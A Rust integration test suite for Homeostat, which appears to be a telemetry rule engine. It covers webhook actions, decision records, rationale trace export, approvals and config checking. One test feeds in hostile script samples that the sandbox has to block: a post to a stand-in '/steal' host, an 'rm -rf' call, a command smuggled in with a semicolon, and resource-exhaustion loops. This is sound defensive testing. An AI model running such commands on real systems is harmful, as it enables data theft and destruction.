//! Actions end to end on a live instance: the real SDK's error burst fires a
//! rule, its script calls a webhook this test serves, the decision is in the
//! API with its whole path, its rationale trace reaches an OTLP receiver
//! (another Homeostat) and the outcome is verified; hostile scripts are
//! stopped while other rules' actions go on; approvals over the API.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::Router;
use axum::routing::post;
use homeostat::decisions::export::ExportConfig;
use homeostat::decisions::{Decision, Outcome, RunStatus, Verdict};
use serde_json::Value;

use crate::common::{Instance, python, start_with};

/// A webhook: counts and keeps the requests it gets; `/slow` answers after
/// 300 ms, `/hang` never answers.
pub struct Webhook {
    pub url: String,
    pub calls: Arc<AtomicUsize>,
    pub bodies: Arc<parking_lot::Mutex<Vec<Value>>>,
    /// Notified when a call reaches `/hang`.
    pub hung: Arc<tokio::sync::Notify>,
}

pub async fn webhook() -> Webhook {
    let calls = Arc::new(AtomicUsize::new(0));
    let bodies = Arc::new(parking_lot::Mutex::new(Vec::new()));
    let (c, b) = (calls.clone(), bodies.clone());
    let hung = Arc::new(tokio::sync::Notify::new());
    let h = hung.clone();
    let app = Router::new()
        .route(
            "/hook",
            post(move |body: axum::Json<Value>| async move {
                b.lock().push(body.0);
                c.fetch_add(1, Ordering::SeqCst);
                axum::Json(serde_json::json!({ "ok": true }))
            }),
        )
        .route(
            "/slow",
            post({
                let (b, c) = (bodies.clone(), calls.clone());
                move |body: axum::Json<Value>| async move {
                    b.lock().push(body.0);
                    c.fetch_add(1, Ordering::SeqCst);
                    // A slow remote: answers 300 ms after it got the call.
                    tokio::time::sleep(Duration::from_millis(300)).await;
                    axum::Json(serde_json::json!({ "ok": true }))
                }
            }),
        )
        .route(
            "/hang",
            post(move || async move {
                h.notify_one();
                std::future::pending::<()>().await;
                "never"
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    Webhook {
        url,
        calls,
        bodies,
        hung,
    }
}

pub fn write(dir: &Path, name: &str, text: &str) {
    std::fs::write(dir.join(name), text).unwrap();
}

/// Waits (bounded) for a decision satisfying `f`, driven by the log's own
/// change notifications.
pub async fn decision(h: &Instance, what: &str, f: impl Fn(&Decision) -> bool) -> Decision {
    let deadline = Duration::from_secs(90);
    tokio::time::timeout(deadline, h.running.actor.log().wait_for(f))
        .await
        .unwrap_or_else(|_| {
            let all = h.running.actor.log().list(&homeostat::decisions::Filter {
                limit: 100,
                ..Default::default()
            });
            panic!("no decision {what} within {deadline:?}; decisions: {all:#?}")
        })
}

fn burst_rule(webhook: &str) -> String {
    format!(
        r#"
description = "Failed server spans"
every = "1s"
window = "2s"
for = "1s"
sql = """
SELECT service_name, count(*) AS errors,
       array_slice(array_agg(trace_id), 1, 5) AS trace_ids
FROM spans
WHERE status_code = 'ERROR' AND service_name <> 'homeostat'
GROUP BY service_name
"""

[action]
http = ["{webhook}"]
inline = """
consider("notify", `${{alert.values.errors}} failed spans in the window`);
consider("wait", "a blip would pass by itself");
decide("notify", "failures are local to " + alert.labels.service_name);
expect("no more failed spans", "60s");
let answer = http::post("{webhook}hook", #{{
    service: alert.labels.service_name,
    trace_ids: alert.trace_ids,
    decision: alert.decision_id,
}});
answer.status
"""
"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn an_sdk_error_burst_is_remediated_once_explained_and_verified() {
    // The OTLP receiver of the rationale traces: another Homeostat.
    let receiver_rules = tempfile::tempdir().unwrap();
    let receiver = start_with(|c| c.rules = receiver_rules.path().to_owned()).await;
    let hook = webhook().await;
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "burst.toml", &burst_rule(&hook.url));
    let (rules_dir, otlp) = (dir.path().to_owned(), receiver.running.otlp_http);
    let h = start_with(|c| {
        c.rules = rules_dir;
        c.export = ExportConfig {
            endpoint: Some(format!("http://{otlp}")),
            schedule_delay: Duration::from_millis(100),
            ..ExportConfig::default()
        };
    })
    .await;

    let output = tokio::process::Command::new(python())
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/sdk/burst.py"))
        .args([
            "--endpoint",
            &h.otlp_grpc_url(),
            "--service",
            "checkout",
            "--seconds",
            "4",
        ])
        .output()
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let done = decision(&h, "verified effective", |d| {
        d.outcome == Outcome::Effective
    })
    .await;

    // One episode, one call, carrying the evidence.
    assert_eq!(hook.calls.load(Ordering::SeqCst), 1);
    let body = hook.bodies.lock()[0].clone();
    assert_eq!(body["service"], "checkout");
    assert_eq!(body["decision"], done.id.as_str());
    let evidence: Vec<String> = serde_json::from_value(body["trace_ids"].clone()).unwrap();
    assert!(!evidence.is_empty(), "{body}");

    // The decision's whole path, from the API.
    let api = h.get_json("/api/v1/decisions?rule=burst").await;
    let decisions = api["decisions"].as_array().unwrap();
    assert_eq!(decisions.len(), 1, "{api:#}");
    let d = &decisions[0];
    assert_eq!(d["id"], done.id.as_str());
    assert_eq!(d["trigger"], "firing");
    assert_eq!(d["labels"]["service_name"], "checkout");
    assert_eq!(
        d["detection"]["values"]["errors"].as_i64().map(|n| n > 0),
        Some(true)
    );
    assert_eq!(d["detection"]["evidence_trace_ids"], body["trace_ids"]);
    assert_eq!(d["policy"]["verdict"], "allowed");
    let options: Vec<&str> = d["reasoning"]["considered"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["option"].as_str().unwrap())
        .collect();
    assert_eq!(options, ["notify", "wait"]);
    assert_eq!(d["reasoning"]["decision"]["option"], "notify");
    assert_eq!(d["reasoning"]["expectation"]["within"], "1m");
    assert_eq!(d["run"]["status"], "succeeded");
    assert_eq!(d["run"]["value"], 200);
    assert_eq!(d["host_calls"][0]["function"], "http::post");
    assert_eq!(d["host_calls"][0]["status"], "ok");
    assert_eq!(d["host_calls"][0]["detail"]["status"], 200);
    assert_eq!(d["outcome"], "effective");
    assert!(d["verification"]["resolved_at"].as_i64().unwrap() > 0);
    let one = h.get_json(&format!("/api/v1/decisions/{}", done.id)).await;
    assert_eq!(one["trace_id"], d["trace_id"]);
    let effective = h
        .get_json("/api/v1/decisions?outcome=effective&limit=5")
        .await;
    assert_eq!(effective["decisions"].as_array().unwrap().len(), 1);
    let none = h.get_json("/api/v1/decisions?outcome=ineffective").await;
    assert!(none["decisions"].as_array().unwrap().is_empty());

    // The rationale trace, at the OTLP receiver: root, detection (linked to
    // an evidence trace), policy, action with its host call, verification.
    h.running.exporter.as_ref().unwrap().flush().await;
    let trace = receiver
        .query(&format!(
            "SELECT span_name, span_id, parent_span_id, service_name, links, attributes \
             FROM spans WHERE trace_id = '{}' ORDER BY start_time, span_name",
            done.trace_id
        ))
        .await;
    let names: Vec<&str> = (0..trace.rows.len())
        .map(|i| trace.get(i, "span_name").as_str().unwrap())
        .collect();
    for expected in [
        "homeostat.decision burst",
        "homeostat.detect",
        "homeostat.policy",
        "homeostat.act",
        "execute_tool http::post",
        "homeostat.verify",
    ] {
        assert!(
            names.contains(&expected),
            "{expected} missing from {names:?}"
        );
    }
    let row = |name: &str| names.iter().position(|n| *n == name).unwrap();
    let act = row("homeostat.act");
    let call = row("execute_tool http::post");
    assert_eq!(trace.get(call, "parent_span_id"), trace.get(act, "span_id"));
    let attributes = trace.get(call, "attributes").to_string();
    assert!(
        attributes.contains("\"gen_ai.operation.name\":\"execute_tool\""),
        "{attributes}"
    );
    assert!(
        attributes.contains(&format!("POST {}hook", hook.url)),
        "{attributes}"
    );
    assert_eq!(trace.get(call, "service_name"), "homeostat");
    let links = trace.get(row("homeostat.detect"), "links").to_string();
    assert!(
        evidence.iter().any(|t| links.contains(t.as_str())),
        "no link to {evidence:?} in {links}"
    );
    // The linked trace is one the SDK sent.
    let linked = h
        .count(&format!(
            "SELECT count(*) FROM spans WHERE service_name = 'checkout' AND trace_id = '{}'",
            evidence[0]
        ))
        .await;
    assert_eq!(linked, 1);
    let exported = h
        .metric("homeostat_exported_spans_total{result=\"exported\"}")
        .await
        .unwrap();
    assert!(exported >= names.len() as f64, "{exported}");
    assert_eq!(
        h.metric("homeostat_exported_spans_total{result=\"dropped\"}")
            .await,
        Some(0.0)
    );
    // And the same trace is in the instance's own spans table.
    let own = h
        .count(&format!(
            "SELECT count(*) FROM spans WHERE service_name = 'homeostat' AND trace_id = '{}'",
            done.trace_id
        ))
        .await;
    assert_eq!(own, names.len() as i64);
}

/// A rule whose action is `script`; all of them fire on the same spans.
fn hostile_rule(name: &str, settings: &str, script: &str) -> String {
    format!(
        r#"
name = "{name}"
every = "1s"
window = "1h"
sql = "SELECT service_name, count(*) AS n FROM spans WHERE service_name = 'target' GROUP BY service_name"

[action]
{settings}
inline = """
{script}
"""
"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_scripts_are_stopped_and_the_others_run() {
    let hook = webhook().await;
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "loop",
            "timeout = \"5s\"\nmax_operations = 1_000_000_000_000",
            "loop {}",
        ),
        ("recursion", "", "fn f(n) { f(n + 1) } f(0)"),
        (
            "string",
            "max_operations = 100_000_000",
            "let s = \"x\"; loop { s += s; }",
        ),
        (
            "array",
            "max_operations = 100_000_000",
            "let a = []; loop { a.push(1); }",
        ),
        (
            "url",
            &format!("http = [\"{}hook\"]", hook.url),
            "http::post(\"http://198.51.100.7/steal\", #{})",
        ),
        (
            "program",
            "exec = [\"/bin/echo\"]",
            "exec::run(\"/bin/rm\", [\"-rf\", \"/tmp/x\"])",
        ),
        (
            "shell",
            "exec = [\"/bin/echo\"]",
            "exec::run(\"/bin/echo\", [\"hi; touch /tmp/homeostat-pwned\"])",
        ),
    ];
    for (name, settings, script) in cases {
        write(
            dir.path(),
            &format!("{name}.toml"),
            &hostile_rule(name, settings, script),
        );
    }
    write(
        dir.path(),
        "healthy.toml",
        &hostile_rule(
            "healthy",
            &format!("http = [\"{}\"]", hook.url),
            &format!("http::post(\"{}hook\", #{{ok: true}}).status", hook.url),
        ),
    );
    // Forbidden at compile time: reported with file and line, not loaded.
    write(
        dir.path(),
        "eval.toml",
        &hostile_rule("eval", "", "eval(\"1 + 1\")"),
    );
    write(
        dir.path(),
        "import.toml",
        &hostile_rule("import", "", "import \"fs\" as fs;"),
    );
    let rules_dir = dir.path().to_owned();
    let h = start_with(|c| {
        c.rules = rules_dir;
        c.actions.max_operations = 1_000_000_000_000;
    })
    .await;
    let report = h.running.rules.reload().await;
    assert_eq!(report.loaded.len(), 8, "{report:?}");
    let errors = report.errors.join("\n");
    assert!(errors.contains("eval.toml:10: script error"), "{errors}");
    assert!(errors.contains("import.toml:10: script error"), "{errors}");

    let sent = h
        .post(
            "/v1/traces",
            "application/json",
            false,
            crate::common::spans_now_json("target"),
        )
        .await;
    assert_eq!(sent.status(), 200);

    // The healthy action completes while the infinite loop still runs: a
    // stuck script holds up no other rule.
    let healthy = decision(&h, "healthy succeeded", |d| {
        d.rule == "healthy"
            && d.run
                .as_ref()
                .is_some_and(|r| r.status == RunStatus::Succeeded)
    })
    .await;
    assert_eq!(healthy.run.unwrap().value, 200);
    let looping = decision(&h, "loop started", |d| d.rule == "loop").await;
    let looping = h.running.actor.log().get(&looping.id).unwrap();
    assert_eq!(
        looping.run.as_ref().unwrap().status,
        RunStatus::Running,
        "the loop runs for 5 s"
    );

    let expected = [
        ("loop", "deadline"),
        ("recursion", "call_depth"),
        ("string", "too_large"),
        ("array", "too_large"),
        ("url", "capability_denied"),
        ("program", "capability_denied"),
        ("shell", "capability_denied"),
    ];
    for (rule, kind) in expected {
        let d = decision(&h, &format!("{rule} failed"), |d| {
            d.rule == rule
                && d.run
                    .as_ref()
                    .is_some_and(|r| r.status == RunStatus::Failed)
        })
        .await;
        let run = d.run.unwrap();
        assert_eq!(run.error.as_ref().unwrap().kind, kind, "{rule}: {run:?}");
        assert_eq!(d.outcome, Outcome::None);
    }
    assert!(!Path::new("/tmp/homeostat-pwned").exists());
    assert_eq!(
        hook.calls.load(Ordering::SeqCst),
        1,
        "only the healthy rule called"
    );
    // Failures are counted by kind, and the engine is still up.
    let failed = h
        .metric("homeostat_action_runs_total{status=\"failed\",error=\"capability_denied\"}")
        .await;
    assert_eq!(failed, Some(3.0));
    assert_eq!(
        h.get_json("/api/v1/decisions").await["decisions"]
            .as_array()
            .unwrap()
            .len(),
        8
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn approvals_over_the_api() {
    let hook = webhook().await;
    let dir = tempfile::tempdir().unwrap();
    for name in ["approved", "denied"] {
        write(
            dir.path(),
            &format!("{name}.toml"),
            &hostile_rule(
                name,
                &format!(
                    "http = [\"{}\"]\napproval = \"required\"\napproval_expiry = \"10m\"",
                    hook.url
                ),
                &format!(
                    "http::post(\"{}hook\", #{{rule: alert.rule}}).status",
                    hook.url
                ),
            ),
        );
    }
    let rules_dir = dir.path().to_owned();
    let h = start_with(|c| c.rules = rules_dir).await;
    h.post(
        "/v1/traces",
        "application/json",
        false,
        crate::common::spans_now_json("target"),
    )
    .await;
    for name in ["approved", "denied"] {
        decision(&h, &format!("{name} awaiting approval"), |d| {
            d.rule == name && d.policy.verdict == Verdict::AwaitingApproval
        })
        .await;
    }
    let pending = h.get_json("/api/v1/approvals").await;
    let pending = pending["approvals"].as_array().unwrap();
    assert_eq!(pending.len(), 2);
    assert_eq!(
        hook.calls.load(Ordering::SeqCst),
        0,
        "nothing runs before approval"
    );
    let id = |rule: &str| {
        pending.iter().find(|d| d["rule"] == rule).unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let answer = |id: String, body: Value| {
        let client = h.client.clone();
        let url = h.api_url(&format!("/api/v1/approvals/{id}"));
        async move { client.post(url).json(&body).send().await.unwrap() }
    };

    let bad = answer(id("approved"), serde_json::json!({"decision": "maybe"})).await;
    assert_eq!(bad.status(), 400);
    let unknown = answer("nope".into(), serde_json::json!({"decision": "approve"})).await;
    assert_eq!(unknown.status(), 404);

    let approved = answer(
        id("approved"),
        serde_json::json!({"decision": "approve", "by": "alice", "comment": "go"}),
    )
    .await;
    assert_eq!(approved.status(), 200);
    let d = decision(&h, "approved and run", |d| {
        d.rule == "approved"
            && d.run
                .as_ref()
                .is_some_and(|r| r.status == RunStatus::Succeeded)
    })
    .await;
    assert_eq!(d.policy.verdict, Verdict::Approved);
    assert_eq!(d.policy.reason, "approved by alice");
    assert_eq!(
        d.policy.approval.as_ref().unwrap().by.as_deref(),
        Some("alice")
    );
    assert_eq!(hook.calls.load(Ordering::SeqCst), 1);

    let denied = answer(
        id("denied"),
        serde_json::json!({"decision": "deny", "by": "bob"}),
    )
    .await;
    assert_eq!(denied.status(), 200);
    let body: Value = denied.json().await.unwrap();
    assert_eq!(body["policy"]["verdict"], "denied");
    assert_eq!(body["outcome"], "none");
    assert!(body["run"].is_null());
    // Answered once: a second answer finds nothing pending.
    let again = answer(id("denied"), serde_json::json!({"decision": "approve"})).await;
    assert_eq!(again.status(), 404);
    assert_eq!(
        hook.calls.load(Ordering::SeqCst),
        1,
        "the denied action never ran"
    );
    assert!(
        h.get_json("/api/v1/approvals").await["approvals"]
            .as_array()
            .unwrap()
            .is_empty()
    );
}

#[test]
fn check_names_each_bad_action_setting_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let rule = r#"every = "10s"
sql = "SELECT service_name FROM spans GROUP BY service_name"

[action]
on = ["firing", "repeat"]
timeout = "1h"
http = ["https://hooks.example.com"]
exec = ["kubectl"]
inline = """
let x = 1;
let = ;
"""
"#;
    write(dir.path(), "bad.toml", rule);
    write(
        dir.path(),
        "good.toml",
        "sql = \"SELECT 1 AS n\"\n[action]\ninline = \"1\"\nk8s = [\"shop\"]\n",
    );
    let (ok, text) = crate::common::homeostat_cli(&["check", dir.path().to_str().unwrap()]);
    assert!(!ok, "{text}");
    let file = dir.path().join("bad.toml");
    let file = file.display();
    for expected in [
        format!("{file}:5: on = [\"repeat\"] needs repeat_every"),
        format!("{file}:6: timeout must be between 0s and 5m"),
        format!("{file}:7: http prefix \"https://hooks.example.com\" must include a path"),
        format!("{file}:8: exec program kubectl must be an absolute path"),
        format!("{file}:11: script error"),
    ] {
        assert!(text.contains(&expected), "missing {expected:?} in:\n{text}");
    }
    assert!(text.contains("5 problems found"), "{text}");
}

/// Fires once spans of service `homeostat` arrive: lets the test wait for
/// the rationale spans by the receiver's own transitions.
const RATIONALE_ARRIVED: &str = r#"
every = "1s"
window = "1h"
sql = "SELECT span_name FROM spans WHERE service_name = 'homeostat' AND span_name = 'homeostat.act' GROUP BY span_name"
"#;

#[tokio::test(flavor = "multi_thread")]
async fn the_binary_exports_rationale_traces_where_otel_variables_say() {
    let receiver_rules = tempfile::tempdir().unwrap();
    write(receiver_rules.path(), "arrived.toml", RATIONALE_ARRIVED);
    let rules_dir = receiver_rules.path().to_owned();
    let receiver = start_with(|c| c.rules = rules_dir).await;
    let mut arrivals = receiver.running.rules.subscribe();

    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "any.toml",
        "every = \"1s\"\nwindow = \"1h\"\nsql = \"SELECT service_name FROM spans WHERE service_name = 'target' GROUP BY service_name\"\n[action]\ninline = \"decide(\\\"note\\\", \\\"seen\\\"); 1\"\n",
    );
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_homeostat"))
        .args([
            "run",
            "--otlp-grpc",
            "127.0.0.1:0",
            "--otlp-http",
            "127.0.0.1:0",
        ])
        .args(["--api", "127.0.0.1:0", "--rules"])
        .arg(dir.path())
        .current_dir(dir.path())
        .env("HOMEOSTAT_LOG", "info")
        .env(
            "OTEL_EXPORTER_OTLP_ENDPOINT",
            format!("http://{}", receiver.running.otlp_grpc),
        )
        .env("OTEL_EXPORTER_OTLP_PROTOCOL", "grpc")
        .env("OTEL_EXPORTER_OTLP_COMPRESSION", "gzip")
        .env("OTEL_BSP_SCHEDULE_DELAY", "100")
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let (http, _lines) = crate::common::ready_address(&mut child, "otlp_http").await;
    let sent = receiver
        .client
        .post(format!("http://{http}/v1/traces"))
        .header("content-type", "application/json")
        .body(crate::common::spans_now_json("target"))
        .send()
        .await
        .unwrap();
    assert_eq!(sent.status(), 200);

    // Rationale spans reached the receiver named by OTEL_EXPORTER_OTLP_ENDPOINT.
    crate::rules::wait_for(
        &mut arrivals,
        "arrived",
        homeostat::rules::AlertState::Firing,
    )
    .await;
    let spans = receiver
        .query(
            "SELECT span_name, attributes['homeostat.choice'] AS choice FROM spans \
             WHERE service_name = 'homeostat' AND span_name = 'homeostat.act'",
        )
        .await;
    assert_eq!(spans.rows.len(), 1);
    assert_eq!(spans.get(0, "choice"), "note");
}
